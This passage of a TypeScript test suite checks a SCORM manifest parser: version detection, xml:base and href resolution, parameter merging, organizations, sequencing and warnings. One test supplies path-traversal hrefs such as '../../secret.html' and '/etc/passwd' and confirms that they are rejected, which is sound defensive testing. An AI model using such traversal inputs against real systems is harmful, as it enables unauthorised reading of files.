  <cp:organizations default="o"><cp:organization identifier="o"><cp:title>Prefixed</cp:title>
    <cp:item identifier="i" identifierref="r"><cp:title>I</cp:title></cp:item>
  </cp:organization></cp:organizations>
  <cp:resources><cp:resource identifier="r" type="webcontent" adlcp:scormType="sco" href="i.html"/></cp:resources>
</cp:manifest>`;
    const m = parseManifest(xml);
    expect([m.version, m.versionSource]).toEqual(["2004", "namespace"]);
    expect(m.organization.title).toBe("Prefixed");
    expect(item(m, "i")).toMatchObject({ launch: "i.html", scormType: "sco" });
  });

  it("ignores elements of a foreign namespace that share a local name", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="i" identifierref="r"><title>I</title></item>
         <x:item xmlns:x="http://example.com/other" identifier="ghost" identifierref="r"/>
       </organization></organizations>`,
      `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="i.html"/></resources>`,
    );
    expect(flatten(parseManifest(xml).organization.items).map((i) => i.identifier)).toEqual(["i"]);
  });
});

describe("version detection", () => {
  const withSchema = (v: string) =>
    `<manifest identifier="m" ${CP12}><metadata><schemaversion>${v}</schemaversion></metadata>
      <organizations default="o"><organization identifier="o"><title>T</title><item identifier="i" identifierref="r"><title>I</title></item></organization></organizations>
      <resources><resource identifier="r" adlcp:scormtype="sco" href="i.html"/></resources></manifest>`;

  it.each([
    ["1.2", "1.2"],
    ["CAM 1.3", "2004"],
    ["2004 2nd Edition", "2004"],
    ["2004 3rd Edition", "2004"],
    ["2004 4th Edition", "2004"],
  ])("schemaversion %s is SCORM %s", (text, version) => {
    expect(parseManifest(withSchema(text))).toMatchObject({ version, versionSource: "schemaversion" });
  });

  it("an unknown schemaversion falls back to the namespaces with a warning", () => {
    const m = parseManifest(withSchema("1.1"));
    expect([m.version, m.versionSource]).toEqual(["1.2", "namespace"]);
    expect(m.warnings[0]).toMatch(/schemaversion "1\.1" is not one we recognise/);
  });

  it("with no schemaversion and no known namespace the package is 1.2 by default, with a warning", () => {
    const m = parseManifest(
      `<manifest identifier="m"><organizations default="o"><organization identifier="o"><title>T</title>
        <item identifier="i" identifierref="r"><title>I</title></item></organization></organizations>
        <resources><resource identifier="r" href="i.html"/></resources></manifest>`,
    );
    expect([m.version, m.versionSource]).toEqual(["1.2", "default"]);
    expect(m.warnings).toContain(
      "The manifest does not say which SCORM version it uses, so it is treated as SCORM 1.2.",
    );
    expect(m.organization.controlMode).toEqual({ choice: true, flow: true, choiceExit: true });
  });
});

describe("xml:base and hrefs", () => {
  it("applies xml:base on manifest, resources and resource to hrefs and files", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="i" identifierref="r" parameters="lang=en"><title>I</title></item>
       </organization></organizations>`,
      `<resources xml:base="content/">
         <resource identifier="r" type="webcontent" adlcp:scormtype="sco" xml:base="./m1" href="./index.html?x=1#top">
           <file href="index.html"/><file href="../shared/app.js"/>
         </resource>
       </resources>`,
      'xml:base="course/"',
    );
    const m = parseManifest(xml);
    expect(m.resources[0]).toMatchObject({
      href: "course/content/m1/index.html?x=1#top",
      files: ["course/content/m1/index.html", "course/content/shared/app.js"],
    });
    expect(item(m, "i").launch).toBe("course/content/m1/index.html?x=1&lang=en#top");
  });

  it.each([
    ["an href that climbs out of the package", 'href="../../secret.html"', "leads outside the package"],
    ["an absolute URL", 'href="https://cdn.example.com/course.html"', "is not a file in the package"],
    ["an absolute path", 'href="/etc/passwd"', "is not a file in the package"],
    ["an xml:base that climbs out", 'xml:base="../" href="index.html"', "leads outside the package"],
    [
      "an absolute xml:base",
      'xml:base="http://cdn.example.com/" href="index.html"',
      "is not a file in the package",
    ],
  ])("%s is not launchable", (_name, attrs, reason) => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="bad" identifierref="r"><title>Bad</title></item>
         <item identifier="good" identifierref="g"><title>Good</title></item>
       </organization></organizations>`,
      `<resources>
         <resource identifier="r" type="webcontent" adlcp:scormtype="sco" ${attrs}/>
         <resource identifier="g" type="webcontent" adlcp:scormtype="sco" href="ok.html"/>
       </resources>`,
    );
    const m = parseManifest(xml);
    expect(m.resources[0]?.href).toBeNull();
    expect(m.organization.items.map((i) => i.identifier)).toEqual(["good"]);
    expect(m.warnings).toHaveLength(1);
    expect(m.warnings[0]).toMatch(
      new RegExp(`^Item "bad" points to resource "r", whose href .* ${reason}, so it was left out\\.$`),
    );
  });

  it("normalises backslashes, dot segments and doubled slashes", () => {
    const m = parseManifest(oneItem('href="content\\\\lesson/.//../lesson/page.html"'));
    expect(item(m, "i").launch).toBe("content/lesson/page.html");
  });
});

describe("parameters", () => {
  it.each([
    ["a.html", "?y=2", "a.html?y=2"],
    ["a.html", "y=2", "a.html?y=2"],
    ["a.html", "&y=2", "a.html?y=2"],
    ["a.html?x=1", "?y=2", "a.html?x=1&y=2"],
    ["a.html?x=1", "y=2&z=3", "a.html?x=1&y=2&z=3"],
    ["a.html", "#frag", "a.html#frag"],
    ["a.html?x=1", "#frag", "a.html?x=1#frag"],
    ["a.html#keep", "#frag", "a.html#keep"],
    ["a.html#keep", "?y=2", "a.html?y=2#keep"],
    ["a.html", "?y=2#frag", "a.html?y=2#frag"],
    ["a.html", "", "a.html"],
    ["a.html", "  ", "a.html"],
  ])("%s + %s → %s", (href, parameters, expected) => {
    expect(mergeParameters(href, parameters)).toBe(expected);
  });

  it("are merged into the item launch", () => {
    const m = parseManifest(oneItem('href="a.html?x=1"', 'parameters="?y=2"'));
    expect(item(m, "i").launch).toBe("a.html?x=1&y=2");
  });
});

describe("organizations and items", () => {
  it("keeps an aggregation whose identifierref dangles, without a launch", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="parent" identifierref="missing"><title>Parent</title>
           <item identifier="child" identifierref="r"><title>Child</title></item>
         </item>
       </organization></organizations>`,
      `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="c.html"/></resources>`,
    );
    const m = parseManifest(xml);
    expect(item(m, "parent")).toMatchObject({
      resourceId: null,
      launch: null,
      children: [{ identifier: "child" }],
    });
    expect(m.warnings).toEqual([
      'Item "parent" points to resource "missing", which the manifest does not define, so it launches nothing; its children are kept.',
    ]);
  });

  it("drops empty leaves and titles untitled items by identifier", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="empty"><title>Nothing</title></item>
         <item identifier="untitled" identifierref="r"/>
       </organization></organizations>`,
      `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="c.html"/></resources>`,
    );
    const m = parseManifest(xml);
    expect(m.organization.items.map((i) => [i.identifier, i.title])).toEqual([["untitled", "untitled"]]);
    expect(m.warnings).toEqual([
      'Item "empty" has no children and points to no resource, so it was left out.',
      'Item "untitled" has no title, so its identifier is shown instead.',
    ]);
  });

  it("uses the default organization, or warns when several exist and none is named", () => {
    const orgs = (def: string) =>
      manifest12(
        `<organizations ${def}>
           <organization identifier="empty"><title>Empty</title></organization>
           <organization identifier="real"><title>Real</title><item identifier="i" identifierref="r"><title>I</title></item></organization>
         </organizations>`,
        `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="c.html"/></resources>`,
      );
    expect(parseManifest(orgs('default="real"'))).toMatchObject({
      organization: { identifier: "real" },
      warnings: [],
    });
    // no default: the first organization that launches something
    const m = parseManifest(orgs(""));
    expect(m.organization.identifier).toBe("real");
    expect(m.warnings).toEqual(['The manifest does not name a default organization, so "real" is used.']);
    // the named default is played even when another organization has content
    expect(parseError(orgs('default="empty"')).message).toBe(
      'the manifest has no launchable resource: organization "empty" has no items',
    );
  });

  it("names every reason when nothing launches", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="a" identifierref="nope"><title>A</title></item>
         <item identifier="b" identifierref="r"><title>B</title></item>
       </organization></organizations>`,
      `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco"/></resources>`,
    );
    expect(parseError(xml).message).toBe(
      'the manifest has no launchable resource: item "a" points to resource "nope", which the manifest does not define; item "b" points to resource "r", which has no href',
    );
  });

  it("ignores a mastery score outside 0 to 100 with a warning", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="i" identifierref="r"><title>I</title><adlcp:masteryscore>150</adlcp:masteryscore></item>
       </organization></organizations>`,
      `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="c.html"/></resources>`,
    );
    const m = parseManifest(xml);
    expect(item(m, "i").masteryScore).toBeNull();
    expect(m.warnings).toEqual([
      'Item "i" has a mastery score of "150", which is not 0 to 100; it is ignored.',
    ]);
  });

  it("merges sequencing from the collection under the item's own", () => {
    const xml = `<?xml version="1.0"?>
<manifest identifier="m" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
  <metadata><schemaversion>2004 4th Edition</schemaversion></metadata>
  <organizations default="o"><organization identifier="o"><title>T</title>
    <item identifier="shared" identifierref="r"><title>S</title><imsss:sequencing IDRef="common"/></item>
    <item identifier="own" identifierref="r"><title>O</title>
      <imsss:sequencing IDRef="common">
        <imsss:objectives><imsss:primaryObjective satisfiedByMeasure="true"><imsss:minNormalizedMeasure>0.5</imsss:minNormalizedMeasure></imsss:primaryObjective></imsss:objectives>
      </imsss:sequencing>
    </item>
    <item identifier="default-measure" identifierref="r"><title>D</title>
      <imsss:sequencing><imsss:objectives><imsss:primaryObjective satisfiedByMeasure="true"/></imsss:objectives></imsss:sequencing>
    </item>
  </organization></organizations>
  <resources><resource identifier="r" type="webcontent" adlcp:scormType="sco" href="r.html"/></resources>
  <imsss:sequencingCollection>
    <imsss:sequencing ID="common">
      <imsss:limitConditions attemptAbsoluteDurationLimit="PT1H"/>
      <imsss:objectives><imsss:primaryObjective satisfiedByMeasure="true"><imsss:minNormalizedMeasure>0.9</imsss:minNormalizedMeasure></imsss:primaryObjective></imsss:objectives>
    </imsss:sequencing>
  </imsss:sequencingCollection>
</manifest>`;
    const m = parseManifest(xml);
    expect(item(m, "shared")).toMatchObject({ scaledPassingScore: 0.9, maxTimeAllowed: "PT1H" });
    expect(item(m, "own")).toMatchObject({ scaledPassingScore: 0.5, maxTimeAllowed: "PT1H" });
    expect(item(m, "default-measure").scaledPassingScore).toBe(1);
  });

  it("groups missing launch files per file", () => {
    const xml = manifest12(
      `<organizations default="o"><organization identifier="o"><title>T</title>
         <item identifier="a" identifierref="r" parameters="?p=1"><title>A</title></item>
         <item identifier="b" identifierref="r" parameters="?p=2"><title>B</title></item>
       </organization></organizations>`,
      `<resources><resource identifier="r" type="webcontent" adlcp:scormtype="sco" href="my%20page.html"><file href="my%20page.html"/></resource></resources>`,
    );
    const seen: string[] = [];
    const m = parseManifest(xml, { fileExists: (p) => (seen.push(p), false) });
    expect(seen).toContain("my%20page.html");
    expect(m.warnings).toEqual(['Items "a" and "b" launch "my%20page.html", which is not in the package.']);
  });
});
